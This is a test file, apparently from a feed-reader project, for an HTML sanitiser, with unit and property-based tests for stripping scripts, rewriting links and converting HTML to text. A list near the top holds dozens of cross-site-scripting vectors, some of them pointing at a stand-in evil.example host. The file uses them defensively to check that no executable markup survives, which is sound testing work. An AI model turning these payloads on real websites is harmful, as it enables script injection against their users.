"""Unit and property tests for curator.ingest.sanitise (RELIABILITY P08-P10)."""

from __future__ import annotations

import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from curator.ingest.sanitise import find_executable_markup, html_to_text, sanitise_html, text_to_html

BASE = "https://blog.example.com/feed/"

# Vectors in the style of Miniflux's sanitizer tests and the OWASP XSS cheat sheet.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x OnErRoR=alert(1)>",
    '<body onload="alert(1)">text</body>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="pw"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image:url(javascript:alert(1))">x</p>',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<!-- a -- b --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img srcset="javascript:alert(1) 1x, x.png 2x" src="ok.png">',
    '<base href="javascript:alert(1)//"><a href="/x">x</a>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<scr<script>ipt>alert(1)</script>",
    '<a href="https://ok.example/" onmouseover="alert(1)">x</a>',
    "<xmp><script>alert(1)</script></xmp>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_leave_no_executable_markup(attack: str) -> None:
    cleaned = sanitise_html(attack, BASE)
    assert find_executable_markup(cleaned) == [], cleaned
    assert "javascript:" not in cleaned.lower() or "&" in cleaned  # only ever as escaped text
    assert sanitise_html(cleaned, BASE) == cleaned


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Hello <b>world</b></p>", "<p>Hello <b>world</b></p>"),
        ("<p>a<script>x()</script>b</p>", "<p>ab</p>"),
        (
            '<a href="/post">p</a>',
            '<a href="https://blog.example.com/post" rel="noopener noreferrer nofollow">p</a>',
        ),
        (
            '<a href="post">p</a>',
            '<a href="https://blog.example.com/feed/post" rel="noopener noreferrer nofollow">p</a>',
        ),
        (
            '<a href="//cdn.example.com/x">p</a>',
            '<a href="https://cdn.example.com/x" rel="noopener noreferrer nofollow">p</a>',
        ),
        ('<img src="/i.png" alt="A">', '<img src="https://blog.example.com/i.png" alt="A">'),
        (
            '<a href="mailto:x@example.com">m</a>',
            '<a href="mailto:x@example.com" rel="noopener noreferrer nofollow">m</a>',
        ),
        ('<img src="https://t.example/p.gif" width="1" height="1">', ""),
        ('<img src="https://t.example/p.gif" width="0" height="0">', ""),
        ('<p>x<img src="https://t.example/p.gif" height="1px" width="1px"></p>', "<p>x</p>"),
        (
            '<img src="https://e.example/big.png" width="600" height="400">',
            '<img src="https://e.example/big.png" width="600" height="400">',
        ),
        ('<img src="https://e.example/a.png" width="100%">', '<img src="https://e.example/a.png">'),
        ('<span class="x" id="y" style="color:red">t</span>', "<span>t</span>"),
        ("<unknown>kept text</unknown>", "kept text"),
        ("a\x00b", "ab"),
        ("", ""),
    ],
)
def test_sanitise_html_table(html: str, expected: str) -> None:
    assert sanitise_html(html, BASE) == expected


def test_relative_urls_without_base_are_dropped() -> None:
    assert sanitise_html('<a href="/x">x</a>') == '<a rel="noopener noreferrer nofollow">x</a>'


def test_find_executable_markup_reports_dangers_but_not_escaped_text() -> None:
    assert find_executable_markup('<img src=x onerror="a()">')
    assert find_executable_markup('<a href="javascript:x">y</a>')
    assert find_executable_markup("<script>x</script>")
    assert find_executable_markup("<p>&lt;script&gt; and javascript: in prose</p>") == []


# Hypothesis: HTML built from dangerous fragments, random text and markup noise.
_FRAGMENTS = st.sampled_from(
    [
        "<script>",
        "</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:x'>",
        "</a>",
        "<iframe>",
        "<svg>",
        "<math>",
        "<style>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<p>",
        "</p>",
        "<b>",
        "<div onclick=x>",
        '"',
        "'",
        "<",
        ">",
        "&",
        "&lt;",
        "&#0;",
        "\x00",
        "java\tscript:",
        "<form>",
        "<meta http-equiv=refresh>",
        "<object>",
        "<embed>",
        "<a href=",
        "onload=",
        "<img src=//t/p.gif width=1 height=1>",
        "<noscript>",
        "<template>",
        "<table>",
        "<td>",
        "<pre>",
        "<br>",
        "<a href='/rel'>",
        "data:text/html,",
        "<select>",
        "<textarea>",
        "<title>",
    ]
)
_HTML = st.lists(st.one_of(_FRAGMENTS, st.text(max_size=8)), max_size=30).map("".join)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(_HTML)
def test_sanitise_is_idempotent_and_safe(html: str) -> None:
    once = sanitise_html(html, BASE)
    assert sanitise_html(once, BASE) == once
    assert find_executable_markup(once) == [], once
    assert not re.search(r"<\s*(script|iframe|object|embed|style|form|meta)", once, re.IGNORECASE)
    assert not re.search(r"\son\w+\s*=", once, re.IGNORECASE)


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_sanitise_arbitrary_text(text: str) -> None:
    once = sanitise_html(text, BASE)
    assert sanitise_html(once, BASE) == once
    assert find_executable_markup(once) == []


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>Hello&nbsp;&amp; <b>world</b></p><p>Second</p>", "Hello & world\n\nSecond"),
        ("line<br>break", "line\nbreak"),
        ("<ul><li>a</li><li>b</li></ul>", "• a\n\n• b"),
        ("<p>a</p><script>evil()</script><style>p{}</style><p>b</p>", "a\n\nb"),
        ("<h2>T</h2>body   text\n\nhere", "T\n\nbody text here"),
        ("&lt;script&gt; is text", "<script> is text"),
        ("<pre>a\n  b</pre>", "a\n b"),
        ("caf&eacute; &#8364; &#x2014;", "café € —"),
        ("", ""),
    ],
)
def test_html_to_text(html: str, expected: str) -> None:
    assert html_to_text(html) == expected


def test_text_to_html_escapes_and_keeps_paragraphs() -> None:
    html = text_to_html("<script>x</script> & co\nline\n\nnext")
    assert html == "<p>&lt;script&gt;x&lt;/script&gt; &amp; co<br>line</p><p>next</p>"
    assert find_executable_markup(html) == []


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<pre></script>\r", "<pre></pre>"),
        ("<pre>\n\nx</pre>", "<pre>x</pre>"),
        ("<pre>a\n b</pre>", "<pre>a\n b</pre>"),
    ],
)
def test_pre_leading_newlines_are_stable(html: str, expected: str) -> None:
    """Parsers drop the newline after <pre>: found by hypothesis, kept as a regression case."""
    assert sanitise_html(html) == expected
    assert sanitise_html(expected) == expected
